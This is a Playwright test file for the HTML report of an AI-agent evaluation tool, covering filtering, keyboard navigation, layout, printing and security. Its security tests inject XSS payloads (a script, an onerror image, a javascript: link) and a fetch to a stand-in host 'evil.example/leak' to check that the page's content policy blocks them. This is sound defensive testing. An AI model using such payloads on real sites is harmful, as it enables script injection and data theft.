import { readFileSync } from 'node:fs';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { figureRows } from '../src/report/diff/compared-rows.ts';
import { sampleDiff } from '../src/report/diff/sample-diff.test-support.ts';
import { htmlPage } from '../src/report/html/html.ts';
import { htmlDiffPage } from '../src/report/html/html-diff.ts';
import { comparedPageRun, pageRun } from '../src/report/html/sample-page.test-support.ts';
import { browserFile, openFile, startBrowser, type WatchedPage } from './browser.ts';
import { requireFreshBuild } from './built-cli.ts';
import { hostileDiff, hostileRun } from './hostile-page.ts';
import { HOSTILE_TEXTS, writePage } from './page-files.ts';
import { emptyFolder, remove } from './temporary-project.ts';

let folder = '';
let browser: Browser;
let context: BrowserContext;
const files = { run: '', compared: '', diff: '', long: '', hostile: '', hostileDiff: '' };
const visited: WatchedPage[] = [];

const LONG = 5000;

const MISSING = Array.from({ length: 8 }, (_, at) => ({
  ...{ suite: 'shop-support', task: `gone-task-${at}`, attack: null, agent: 'recorded' },
}));

async function open(file: string, hash = '') {
  const watched = await openFile(context, file, hash);
  visited.push(watched);
  return watched.page;
}

const title =
  browserFile === null
    ? 'the HTML report: not tested, as this machine has no Chromium'
    : 'the HTML report';

describe.skipIf(browserFile === null)(title, { timeout: 60_000 }, () => {
  beforeAll(async () => {
    requireFreshBuild();
    folder = emptyFolder();
    const steps = Array.from({ length: LONG }, (_, at) => ({
      type: 'message' as const,
      role: at % 2 === 0 ? ('user' as const) : ('assistant' as const),
      content: `Message ${at}. ${'word '.repeat((at * 7) % 90)}`,
    }));
    const write = (name: keyof typeof files, pieces: AsyncIterable<string>) =>
      writePage(folder, `${name}.html`, pieces).then((file) => {
        files[name] = file;
      });
    await write('run', htmlPage(pageRun()));
    await write('compared', htmlPage(comparedPageRun()));
    await write('diff', htmlDiffPage(sampleDiff()));
    await write('long', htmlPage(pageRun(undefined, steps)));
    await write('hostile', htmlPage(hostileRun()));
    await write('hostileDiff', htmlDiffPage(hostileDiff()));
    browser = await startBrowser();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    remove(folder);
  });
  beforeEach(async () => {
    context = await browser.newContext({ offline: true, viewport: { width: 1280, height: 900 } });
  });
  afterEach(async () => {
    await context.close();
    for (const { troubles, requests } of visited.splice(0)) {
      expect(troubles).toEqual([]);
      expect(requests).toEqual([]);
    }
  });

  it('opens from disk with the gate, the figures and every picture', async () => {
    const page = await open(files.run);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toContain('shop-support');
    expect(await page.locator('.gate-card').textContent()).toContain(
      'A violation in 1 of 8 trials',
    );
    for (const name of ['Pass rates', 'Tasks', 'Cost and score', 'History', 'Run']) {
      await page.getByRole('heading', { name, exact: true }).waitFor();
    }
    const quarantine = await page
      .getByRole('region', { name: 'In quarantine' })
      .first()
      .textContent();
    for (const words of ['track-parcel', '2026-12-31', 'ana', 'The carrier changed']) {
      expect(quarantine).toContain(words);
    }
    expect(await page.locator('.rates').first().textContent()).toContain('hasty');
    expect(await page.locator('.heat td.heat-0').count()).toBeGreaterThan(0);
  });

  it('filters trials by words, quick choices and names, and keeps them in the address', async () => {
    const page = await open(files.run, '#view=trials');
    const rows = page.locator('tbody tr:not(.room)');
    expect(await rows.count()).toBe(8);
    await page.getByRole('searchbox').fill('DID not answer');
    await page.getByText('1 trial of 8').waitFor();
    expect(page.url()).toContain('q=DID+not+answer');
    await page.getByRole('searchbox').fill('');
    await page.getByRole('button', { name: 'Violations' }).click();
    await page.getByText('1 trial of 8').waitFor();
    await page.getByRole('button', { name: 'Quarantined' }).click();
    expect(await rows.first().textContent()).toContain('track-parcel');
    await page.goBack();
    expect(await rows.first().textContent()).toContain('refund-late-order');
    await page.getByRole('button', { name: 'All' }).click();
    await page.getByRole('combobox', { name: 'Agent' }).selectOption('careful');
    await page.getByText('3 trials of 8').waitFor();
    await page.getByRole('combobox', { name: 'Agent' }).selectOption('');
    await page.getByRole('combobox', { name: 'Attack' }).selectOption('phish');
    await page.getByText('1 trial of 8').waitFor();
  });

  it('opens a trial with its violation marked at its step, and the reasons of its judges', async () => {
    const page = await open(files.run, '#view=trials&show=violations');
    await page.getByRole('link', { name: 'refund-late-order' }).click();
    await page.getByRole('heading', { name: '12 steps' }).waitFor();
    const marked = page.locator('.line.is-marked', { hasText: 'delete_account' });
    expect(await marked.locator('.note').textContent()).toContain('violation');
    expect(await marked.locator('.note').textContent()).toContain('Step 9 calls delete_account');
    expect(await page.locator('.verdicts').first().textContent()).toContain('It is curt');
    const text = (await page.locator('.timeline').textContent()) ?? '';
    for (const words of [
      '2 model exchanges',
      'Approved with changes',
      'triage → billing',
      'Blocked',
    ]) {
      expect(text).toContain(words);
    }
    expect(await page.locator('.step.of-bad').count()).toBe(2);
    await page.getByRole('button', { name: 'step 9' }).click();
    await page.locator('li:focus', { hasText: 'delete_account' }).waitFor();
    const whole = page.getByRole('button', { name: 'Show all (3,000 characters)' });
    await whole.click();
    await page.getByRole('button', { name: 'Show less' }).waitFor();
    await page.goBack();
    await page.getByRole('heading', { name: 'Trials' }).waitFor();
  });

  it('lays two trials of a run side by side and marks where they part', async () => {
    const page = await open(files.run, '#view=trials&show=failed');
    await page.getByRole('link', { name: 'refund-late-order' }).click();
    await page.getByLabel('Compare with').selectOption({ label: 'hasty, trial 2: pass' });
    await page.getByRole('heading', { name: 'Steps side by side' }).waitFor();
    expect(await page.locator('.pair.parting').textContent()).toContain('triage → billing');
    expect(await page.locator('.verdicts').textContent()).toContain('expect.never[0]');
    await page.goBack();
    await page.getByRole('link', { name: 'or any other trial' }).click();
    await page.getByText('Choose the trial to stand beside').waitFor();
    await page.getByRole('link', { name: 'track-parcel' }).click();
    await page.getByRole('heading', { name: 'refund-late-order and track-parcel' }).waitFor();
  });

  it('shows changes gravest first, and both trajectories with what differs', async () => {
    const page = await open(files.diff);
    expect(await page.locator('.gate-card').textContent()).toContain('Gate failed');
    await page.getByRole('navigation', { name: 'Views' }).getByText('Changes').click();
    const first = page.locator('.changes > li[data-index="0"]');
    expect(await first.textContent()).toContain('regressed');
    await first.getByRole('link').click();
    const parting = page.locator('.pair.parting');
    await parting.waitFor();
    expect(await parting.locator('.differences').textContent()).toMatch(/amount4\.9.*42\.5/);
    expect(await page.locator('.pair.kind-only_head').first().textContent()).toContain(
      'send_email',
    );
    await page.keyboard.press('n');
    await page.getByText('Only Base has a trial of this task').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('heading', { name: 'Changes' }).waitFor();
  });

  it('shows what a baseline says in the page of a run, with the run’s own trial beside it', async () => {
    const page = await open(files.compared);
    await page.getByRole('heading', { name: 'Figures' }).waitFor();
    await page.goto(`file://${files.compared}#view=trials&show=changed`);
    await page.getByText('2 trials of 8').waitFor();
    await page.goto(`file://${files.compared}#change=0`);
    await page.locator('.pair.parting').waitFor();
    expect(await page.locator('.figures').textContent()).toContain('hasty, trial 1');
    expect(readFileSync(files.compared, 'utf8').split('"delete_account"').length - 1).toBe(8);
  });

  it('is used with the keyboard alone', async () => {
    const page = await open(files.run);
    await page.keyboard.press('Tab');
    expect(await page.locator(':focus').textContent()).toBe('Skip to content');
    await page.keyboard.press('/');
    await page.locator('input:focus').waitFor();
    await page.keyboard.type('cancel-order');
    await page.getByText('3 trials of 8').waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('j');
    await page.locator('tr[data-index="0"] a:focus').waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('j');
    await page.keyboard.press('k');
    await page.locator('tr[data-index="1"] a:focus').waitFor();
    await page.keyboard.press('Enter');
    await page.locator('h1:focus', { hasText: 'cancel-order' }).waitFor();
    await page.locator('.timeline').waitFor();
    await page.keyboard.press('j');
    await page.locator('li[data-index="0"]:focus').waitFor();
    await page.keyboard.press('n');
    await page.getByRole('heading', { name: 'passed cancel-order' }).first().waitFor();
    await page.keyboard.press('Escape');
    await page.getByText('3 trials of 8').waitFor();
    await page.locator('tr[data-index="2"] a:focus').waitFor();
  });

  it('listens to keys after a box was ticked', async () => {
    const page = await open(files.diff, '#change=0');
    await page.getByLabel('Only differences').check();
    await page.keyboard.press('d');
    const parting = page.locator('li:focus .pair.parting');
    await parting.waitFor();
    const names = await page.locator('.sides').boundingBox();
    const below = (names?.y ?? 0) + (names?.height ?? 0);
    await expect
      .poll(async () => (await parting.boundingBox())?.y)
      .toBeGreaterThanOrEqual(below - 12);
    await page.keyboard.press('Escape');
    await page.locator('.changes > li[data-index="0"] a:focus').waitFor();
  });

  it('says figures of a comparison in the words of the terminal', async () => {
    const page = await open(files.diff);
    const table = page.getByRole('region', { name: 'Figures' }).getByRole('table');
    for (const { name, ...texts } of figureRows(
      { ...sampleDiff().diff.summary, groups: [] },
      String,
    )) {
      const row = table.getByRole('row', { name });
      const { base, head, difference, interval, ratio, p } = texts;
      expect(await row.getByRole('cell').allTextContents()).toEqual([
        ...[base, head, difference, interval, ratio, p].map((text) => text || '–'),
        texts.verdict ?? 'not shown to differ',
      ]);
    }
  });

  it('says of a stored run what its comparison left out, and that its tasks are not listed', async () => {
    const { diff, gate } = sampleDiff({ summary: { missing: MISSING } });
    const run = pageRun();
    const summary = run.summary && { ...run.summary, comparison: { diff: diff.summary, gate } };
    const file = await writePage(folder, 'stored.html', htmlPage({ ...run, summary }));
    const page = await open(file, '#view=changes');
    const covered = page.getByRole('region', { name: 'What was compared' });
    expect(await covered.textContent()).toContain('not the tasks one by one');
    expect(await covered.textContent()).toContain('agentops diff ');
    await covered.getByText('missing in head').last().click();
    await covered.getByText('gone-task-7').last().waitFor();
  });

  it('keeps very long names and many columns within the page, and says which have none', async () => {
    const long = Array.from({ length: 30 }, (_, at) => ({
      ...{ suite: 's'.repeat(300), task: 't'.repeat(300), agent: `${at}`.padStart(200, 'a') },
      trials: [{ cost_usd: 1 }],
    }));
    const file = await writePage(folder, 'names.html', htmlPage(pageRun(long)));
    const page = await open(file);
    await page.getByText('6 more columns without room here').waitFor();
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(1280);
    const table = page.getByRole('region', { name: 'Pass rates' }).getByRole('table');
    expect((await table.boundingBox())?.width).toBeLessThan(1280);
  });

  it('scrolls through 5,000 steps with few of them in the page', async () => {
    const page = await open(files.long, '#view=trials');
    await page.getByRole('link', { name: 'refund-late-order' }).first().click();
    await page.getByRole('heading', { name: '5,000 steps' }).waitFor();
    const nodes = () => page.locator('.timeline *').count();
    await page.keyboard.press('j');
    await page.keyboard.press('End');
    await page.locator(`li[data-index="${LONG - 1}"]:focus`).waitFor();
    expect(await page.locator('.timeline').textContent()).toContain(`Message ${LONG - 1}.`);
    expect(await nodes()).toBeLessThan(500);
    await page.keyboard.press('Home');
    await page.locator('li[data-index="0"]:focus').waitFor();
    expect(await page.locator('.timeline').textContent()).toContain('Message 0.');
    await page.mouse.wheel(0, 40_000);
    await page.waitForFunction('scrollY > 30000');
    expect(await nodes()).toBeLessThan(500);
    const last = page.locator('li[data-index]').last();
    expect(await last.getAttribute('aria-setsize')).toBe(String(LONG));
  });

  it('prints more than what is in sight', async () => {
    const page = await open(files.long, '#view=trials');
    await page.getByRole('link', { name: 'refund-late-order' }).first().click();
    await page.locator('li[data-index="5"]').waitFor();
    await page.emulateMedia({ media: 'print' });
    await page.locator('li[data-index="1999"]').waitFor();
    await page.emulateMedia({ media: 'screen' });
    await page.locator('li[data-index="1999"]').waitFor({ state: 'detached' });
  });

  it('prints dark letters on white, whatever the screen has', async () => {
    const dark = await browser.newContext({ colorScheme: 'dark' });
    const { page } = await openFile(dark, files.run);
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
    const colours = `[getComputedStyle(document.body).color, getComputedStyle(document.body).backgroundColor]`;
    expect(await page.evaluate(colours)).toEqual(['rgb(26, 33, 48)', 'rgb(255, 255, 255)']);
    await dark.close();
  });

  it('runs nothing of what hostile texts say, and shows them as text', async () => {
    const page = await open(files.hostile);
    const hashes = ['', '#view=trials', ...HOSTILE_TEXTS.map((_, at) => `#trial=${at}-0`)];
    for (const hash of [...hashes, '#trial=0-0&with=1-0', '#view=trials&q=%3Cscript%3E']) {
      await page.goto(`file://${files.hostile}${hash}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      expect(await page.evaluate('window.__ran')).toBeUndefined();
      expect(await page.locator('iframe, img, base, form, embed, object').count()).toBe(0);
    }
    await page.goto(`file://${files.hostile}#trial=0-0`);
    await page.locator('.timeline').waitFor();
    const text = (await page.locator('main').textContent()) ?? '';
    expect(text.split(HOSTILE_TEXTS[0]).length).toBeGreaterThan(12);
    expect(await page.locator('main a[href^="javascript"], main [onerror]').count()).toBe(0);
    await page.goto(`file://${files.hostile}#trial=${HOSTILE_TEXTS.length - 3}-0`);
    await page.getByText('\\u{202e}gnp.exe\\u{200b}').first().waitFor();
  });

  it('runs nothing of hostile texts in a comparison either', async () => {
    const page = await open(files.hostileDiff);
    for (const hash of ['', '#view=changes', ...HOSTILE_TEXTS.map((_, at) => `#change=${at}`)]) {
      await page.goto(`file://${files.hostileDiff}${hash}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      expect(await page.evaluate('window.__ran')).toBeUndefined();
      expect(await page.locator('iframe, img, base, form').count()).toBe(0);
    }
  });

  it('lets its policy stop script, style and requests that were smuggled in', async () => {
    const { page, troubles, requests } = await openFile(context, files.run);
    const failures: (string | undefined)[] = [];
    page.on('requestfailed', (request) => failures.push(request.failure()?.errorText));
    await page.evaluate(`
      window.__stopped = 0;
      addEventListener('securitypolicyviolation', () => window.__stopped++);
      const script = document.createElement('script');
      script.textContent = 'window.__ran = 1';
      document.body.append(script);
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="https://evil.example/x.png" onerror="window.__ran = 1">'
        + '<p id="painted" style="color: rgb(1, 2, 3)">x</p><a id="trap" href="javascript:window.__ran=1">x</a>';
      document.body.append(holder);
      document.getElementById('trap').click();
      fetch('https://evil.example/leak').catch(() => {});
    `);
    await page.waitForFunction('window.__stopped >= 5');
    expect(await page.evaluate('window.__ran')).toBeUndefined();
    const colour = 'getComputedStyle(document.getElementById("painted")).color';
    expect(await page.evaluate(colour)).not.toBe('rgb(1, 2, 3)');
    expect(failures).toEqual(requests.map(() => 'csp'));
    expect(troubles.every((trouble) => /Content Security Policy/.test(trouble))).toBe(true);
  });

  it('says the gate and the totals without JavaScript', async () => {
    const plain = await browser.newContext({ offline: true, javaScriptEnabled: false });
    const { page } = await openFile(plain, files.run);
    const text = await page.locator('body').textContent();
    expect(text).toContain('Gate failed');
    expect(text).toContain('8 trials: 5 passed, 2 failed, 1 in error, 0 skipped.');
    await plain.close();
  });

  it('says of a trial that it is left out where the run is larger than a page holds', async () => {
    const pieces = htmlPage(pageRun(), undefined, 20_000);
    const file = await writePage(folder, 'left.html', pieces);
    const page = await open(file, '#view=trials');
    expect(await page.locator('main').textContent()).toMatch(
      /here 3 that did not pass or changed, and not the other 5/,
    );
    await page.getByRole('link', { name: 'cancel-order' }).last().click();
    await page.getByText('The steps of this trial are not in this file').waitFor();
  });

  it.each([
    [1280, 'light'],
    [1280, 'dark'],
    [390, 'light'],
    [390, 'dark'],
  ] as const)('fits %i pixels in %s', async (width, colorScheme) => {
    const narrow = await browser.newContext({ viewport: { width, height: 800 }, colorScheme });
    const { page } = await openFile(narrow, files.compared);
    for (const hash of ['', '#view=trials', '#view=changes', '#change=0', '#trial=1-0']) {
      await page.goto(`file://${files.compared}${hash}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(width);
    }
    await narrow.close();
  });
});
